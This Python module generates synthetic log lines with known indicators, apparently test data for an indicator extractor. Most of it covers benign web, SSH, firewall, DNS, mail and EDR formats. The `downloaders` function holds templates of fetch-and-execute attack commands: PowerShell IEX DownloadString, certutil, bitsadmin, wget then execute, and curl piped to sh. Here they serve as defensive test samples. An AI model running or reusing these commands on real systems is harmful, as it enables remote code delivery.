# ruff: noqa: E501, ISC004 (log lines are as long as they are)
"""Log lines with the indicators in them known: what an extractor should find, and what may be found besides.

A line is one of eleven kinds, in the shares of :data:`SHARES`. Its truth is a list of ``(type, value)``; values are
canonical. Hosts inside of URLs and mail addresses are in neither list's favour: they are told apart as ``beside``.
"""

from __future__ import annotations

import hashlib
import ipaddress
import random
from collections.abc import Callable
from typing import NamedTuple

Truth = list[tuple[str, str]]


class Line(NamedTuple):
    """One line, what is in it, and what may be reported of it without being right or wrong."""

    text: str
    truth: Truth
    beside: Truth


WORDS = [
    "update",
    "cdn",
    "mail",
    "login",
    "secure",
    "portal",
    "files",
    "assets",
    "static",
    "news",
    "shop",
    "media",
    "cloud",
    "backup",
    "sync",
    "data",
    "stage",
    "edge",
    "node",
    "api",
    "images",
    "gateway",
    "proxy",
    "vpn",
    "remote",
    "support",
    "blog",
    "forum",
    "download",
    "panel",
    "admin",
    "office",
    "finance",
    "report",
    "invoice",
]
ENDS = [
    "com",
    "net",
    "org",
    "ru",
    "cn",
    "de",
    "io",
    "info",
    "biz",
    "co.uk",
    "com.br",
    "xyz",
    "top",
    "online",
    "site",
    "fr",
    "nl",
    "pl",
    "in",
    "jp",
    "se",
    "ch",
    "eu",
    "us",
]
PRODUCTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v} Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "curl/7.88.1", "python-requests/2.31.0", "Mozilla/5.0 (compatible; bingbot/2.0)",
)  # fmt: skip


class Writer:
    """Makes lines, the same ones for the same seed."""

    def __init__(self, seed: int) -> None:
        self.chance = random.Random(seed)

    def ipv4(self) -> str:
        part = self.chance.randint
        return f"{self.chance.choice((10, 192, 185, 45, 91, 103, 203, 8))}.{part(0, 255)}.{part(0, 255)}.{part(1, 254)}"

    def ipv6(self) -> str:
        head = self.chance.choice((0x20010DB8, 0x2A001450, 0xFE800000, 0x26064700))
        return str(ipaddress.IPv6Address(head << 96 | self.chance.getrandbits(64)))

    def name(self) -> str:
        words = [self.chance.choice(WORDS) for _ in range(self.chance.randint(1, 3))]
        words[-1] += self.chance.choice(("", "-", "")) + str(self.chance.randint(1, 9_999))
        return ".".join(words) + "." + self.chance.choice(ENDS)

    def digest(self, kind: str) -> str:
        return hashlib.new(kind, self.chance.randbytes(8), usedforsecurity=False).hexdigest()

    def clock(self) -> str:
        part = self.chance.randint
        return f"{part(0, 23):02}:{part(0, 59):02}:{part(0, 59):02}"

    def mac(self) -> str:
        return ":".join(f"{self.chance.randint(0, 255):02x}" for _ in range(6))

    def version(self) -> str:
        part = self.chance.randint
        return f"{part(1, 120)}.{part(0, 9)}.{part(0, 9_999)}.{part(0, 255)}"

    def path(self) -> str:
        words = "/".join(self.chance.choice(WORDS) for _ in range(self.chance.randint(1, 3)))
        return f"/{words}" + self.chance.choice(("", "/", ".php", ".js", ".html?id=7&x=a.b", "_(1).zip", "/a%20b.txt"))

    def url(self) -> tuple[str, Truth]:
        """A URL, and its host."""
        if self.chance.random() < 0.3:
            host = self.ipv4()
            beside = [("ipv4", host)]
        else:
            host = self.name()
            beside = [("dns", host)]
        port = self.chance.choice(("", "", "", f":{self.chance.randint(1024, 65535)}"))
        return f"{self.chance.choice(('http', 'https'))}://{host}{port}{self.path()}", beside

    def mail(self) -> tuple[str, Truth]:
        host = self.name()
        user = self.chance.choice(WORDS) + self.chance.choice((".", "_", "")) + self.chance.choice(WORDS)
        return f"{user}@{host}", [("dns", host)]

    def stamp(self) -> str:
        return f"Nov {self.chance.randint(10, 28)} {self.clock()} host{self.chance.randint(1, 40)}"


def benign_commands(w: Writer) -> Line:
    """Windows command lines without anything in them."""
    n = w.chance.randint(1, 9_999)
    text = w.chance.choice((
        f"C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog -t {n}",
        f'"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --version={w.version()}',
        f"C:\\Windows\\System32\\RuntimeBroker.exe -Embedding Microsoft.Windows.Search_cw5n1h2txyewy {n}",
        f"powershell.exe -NoProfile -Command \"[System.Net.Dns]::GetHostName(); Get-Item C:\\tmp\\setup{n}.zip\"",
        f"msiexec /i package{n}.msi /qn REBOOT=ReallySuppress ProductVersion={w.version()}",
        f"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe /noconfig @\"C:\\Users\\a\\x{n}.cmdline\"",
        f"cmd.exe /c \"python build.py --out dist\\app{n}.zip && deploy{n}.sh 2> build.log\"",
        f"taskhostw.exe {{222A245B-E637-4AE9-A93F-A59CA119{n:04}}} at {w.clock()} mac {w.mac()}",
    ))  # fmt: skip
    return Line(text, [], [])


def downloaders(w: Writer) -> Line:
    """Commands that fetch something."""
    url, beside = w.url()
    text = w.chance.choice((
        f"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{url}')\"",
        f"certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\x{w.chance.randint(1, 99)}.exe",
        f"bitsadmin /transfer job{w.chance.randint(1, 99)} /download /priority high {url} C:\\Temp\\a.tmp",
        f"bash -c 'wget -q {url} -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x'",
        f"curl -s \"{url}\" | sh",
        f"mshta.exe {url}, then (see {url}).",
    ))  # fmt: skip
    return Line(text, [("url", url)], beside)


def web_log(w: Writer) -> Line:
    """The combined log of a web server."""
    client = w.ipv4()
    truth: Truth = [("ipv4", client)]
    beside: Truth = []
    from_url = "-"
    if w.chance.random() < 0.5:
        from_url, beside = w.url()
        truth.append(("url", from_url))
    agent = w.chance.choice(PRODUCTS).format(v=w.version().replace(".0.", ".1."))
    request = f"{w.chance.choice(('GET', 'POST'))} {w.path()} HTTP/1.1"
    text = f'{client} - - [20/Nov/2026:{w.clock()} +0000] "{request}" 200 {w.chance.randint(99, 9999)} "{from_url}" "{agent}"'
    return Line(text, truth, beside)


def sshd(w: Writer) -> Line:
    """Log-ins over SSH."""
    address = w.ipv4()
    pid, port = w.chance.randint(300, 65_000), w.chance.randint(1024, 65_535)
    text = w.chance.choice((
        f"{w.stamp()} sshd[{pid}]: Failed password for invalid user {w.chance.choice(WORDS)} from {address} port {port} ssh2",
        f"{w.stamp()} sshd[{pid}]: Connection closed by authenticating user root {address} port {port} [preauth]",
        f"{w.stamp()} sshd[{pid}]: pam_unix(sshd:auth): authentication failure; uid=0 euid=0 tty=ssh rhost={address}",
        f"{w.stamp()} sshd[{pid}]: Accepted publickey for deploy from {address} port {port} ssh2: RSA SHA256:nThbg6kXUpJWGl7E1",
    ))  # fmt: skip
    return Line(text, [("ipv4", address)], [])


def firewall(w: Writer) -> Line:
    """iptables and Cisco ASA."""
    source, target = w.ipv4(), w.ipv4()
    sport, dport = w.chance.randint(1024, 65_535), w.chance.choice((22, 53, 80, 443, 445, 3389))
    mac = f"{w.mac()}:{w.mac()}:08:00"
    text = w.chance.choice((
        f"{w.stamp()} kernel: [UFW BLOCK] IN=eth0 OUT= MAC={mac} SRC={source} DST={target} LEN=40 PROTO=TCP SPT={sport} DPT={dport}",
        f"%ASA-6-106100: access-list out denied tcp inside/{source}({sport}) -> outside/{target}({dport}) hit-cnt 1 first hit",
        f"%ASA-4-106023: Deny tcp src outside:{source}/{sport} dst inside:{target}/{dport} by access-group \"out\" [0x0, 0x0]",
        f"date=2026-11-20 time={w.clock()} devname=fw1 srcip={source} srcport={sport} dstip={target} dstport={dport} action=deny",
    ))  # fmt: skip
    return Line(text, [("ipv4", source), ("ipv4", target)], [])


def dns_log(w: Writer) -> Line:
    """Queries of a name server."""
    client, server, name = w.ipv4(), w.ipv4(), w.name()
    if w.chance.random() < 0.1:
        name = w.chance.choice(("_dmarc.", "_ldap._tcp.", "xn--bcher-kva.")) + name
    spelled = name.upper() if w.chance.random() < 0.05 else name
    text = w.chance.choice((
        f"20-Nov-2026 {w.clock()}.118 queries: info: client @0x7f3c {client}#{w.chance.randint(1024, 65535)} ({spelled}): "
        f"query: {spelled} IN A +E(0)K ({server})",
        f"{w.stamp()} dnsmasq[512]: query[A] {spelled} from {client}\t{server} forwarded to upstream",
    ))  # fmt: skip
    return Line(text, [("ipv4", client), ("ipv4", server), ("dns", name)], [])


def mail_log(w: Writer) -> Line:
    """Postfix."""
    sender, beside = w.mail()
    receiver, more = w.mail()
    relay, address = w.name(), w.ipv4()
    text = w.chance.choice((
        f"{w.stamp()} postfix/smtp[91]: 4A1B2C3D4E: to=<{receiver}>, orig_to=<{sender}>, relay={relay}[{address}]:25, delay=0.5",
        f"{w.stamp()} postfix/qmgr[77]: NOQUEUE: reject: RCPT from {relay}[{address}]: 554 5.7.1; from=<{sender}> to=<{receiver}>",
    ))  # fmt: skip
    return Line(text, [("email", sender), ("email", receiver), ("dns", relay), ("ipv4", address)], beside + more)


def edr(w: Writer) -> Line:
    """What an agent says of a file: three hashes, next to each other or not."""
    md5, sha1, sha256 = w.digest("md5"), w.digest("sha1"), w.digest("sha256")
    n = w.chance.randint(1, 999)
    text = w.chance.choice((
        f'{{"event":"FileCreate","time":"2026-11-20T{w.clock()}Z","path":"C:\\\\Users\\\\u{n}\\\\x.exe","md5":"{md5}",'
        f'"sha1":"{sha1}","sha256":"{sha256}"}}',
        f"Image: C:\\Windows\\Temp\\a{n}.exe Hashes: MD5={md5.upper()},SHA1={sha1.upper()},SHA256={sha256.upper()}",
        f"quarantined /var/tmp/sample{n}.bin {md5} {sha1} {sha256}",
    ))  # fmt: skip
    return Line(text, [("md5_hash", md5), ("sha1_hash", sha1), ("sha256_hash", sha256)], [])


def ipv6_kernel(w: Writer) -> Line:
    """The firewall of Linux, which writes IPv6 addresses out."""
    source, target = w.ipv6(), w.ipv6()
    wide = [ipaddress.IPv6Address(one).exploded for one in (source, target)]
    text = (
        f"{w.stamp()} kernel: [IPTABLES6] IN=eth0 MAC={w.mac()}:{w.mac()}:86:dd SRC={wide[0]} DST={wide[1]} LEN=80 TC=0"
        if w.chance.random() < 0.5
        else f"{w.stamp()} dhcpd: Renew message from {source} port 546, assigned [{target}]:547 at {w.clock()}"
    )
    return Line(text, [("ipv6", source), ("ipv6", target)], [])


def defanged_prose(w: Writer) -> Line:
    """A report."""
    url, beside = w.url()
    name, address, (mail, more) = w.name(), w.ipv4(), w.mail()
    dot = w.chance.choice(("[.]", "(.)", "[dot]", "{.}"))
    scheme, _, rest = url.partition("://")
    host, slash, path = rest.partition("/")
    bad_url = f"{scheme.replace('tt', 'xx')}://{host.replace('.', dot)}{slash}{path}"
    bad_mail = mail.replace("@", w.chance.choice(("[at]", "(at)", "[@]"))).replace(".", dot)
    text = (
        f"The actor's implant was fetched from {bad_url} and speaks to {name.replace('.', dot)} "
        f"({address.replace('.', dot)}); mails came from {bad_mail}."
    )
    return Line(text, [("url", url), ("dns", name), ("ipv4", address), ("email", mail)], beside + more)


def look_alikes(w: Writer) -> Line:
    """Nothing but what looks like something."""
    part = w.chance.randint
    text = w.chance.choice((
        f"Version {part(1, 20)}.{part(0, 9)}.{part(0, 99)}.{part(0, 255)} of module System.Data.Common loaded at {w.clock()}",
        f"snmp trap oid 1.3.6.1.4.1.{part(1, 9999)}.2.{part(1, 9)} at {w.clock()} uptime 12:{part(10, 59)}:33:07",
        f"address {part(256, 999)}.{part(0, 255)}.1.{part(0, 255)} is not valid; see std::vector::size and Foo::Bar",
        f"nic {w.mac()} dash {w.mac().replace(':', '-')} cisco 0011.2233.{part(1000, 9999)} group 00:00:5e:00:01:{part(10, 99)}",
        f"user.name=alice event.id={part(1, 999)} file setup-{part(1, 9)}.zip, install.sh and README.md are in place",
        f"guid {w.digest('md5')[:8]}-1234-4abc-9def-{w.digest('md5')[:12]} trace e.g. 10.20.{part(300, 999)}.1 i.e. none",
    ))  # fmt: skip
    return Line(text, [], [])


SHARES: tuple[tuple[Callable[[Writer], Line], float], ...] = (
    (benign_commands, 0.20), (downloaders, 0.08), (web_log, 0.18), (sshd, 0.14), (firewall, 0.14), (dns_log, 0.10),
    (mail_log, 0.04), (edr, 0.06), (ipv6_kernel, 0.03), (defanged_prose, 0.02), (look_alikes, 0.01),
)  # fmt: skip


def lines(count: int, seed: int) -> list[Line]:
    """So many lines, in an order of their own."""
    writer = Writer(seed)
    made = [kind(writer) for kind, share in SHARES for _ in range(round(count * share))]
    writer.chance.shuffle(made)
    return made
